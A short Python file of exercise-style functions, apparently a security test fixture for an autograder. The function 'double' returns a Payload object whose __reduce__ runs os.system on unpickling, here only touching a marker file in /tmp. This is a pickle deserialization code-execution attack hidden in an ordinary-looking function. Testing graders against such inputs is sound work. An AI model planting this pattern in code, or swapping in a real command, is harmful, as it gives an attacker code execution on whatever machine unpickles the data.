import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/gradlings-attack",)


def double(x):
    return Payload()


# %%
def slope(x):
    return 3 * x**2


def tidy(words):
    return sorted(words)
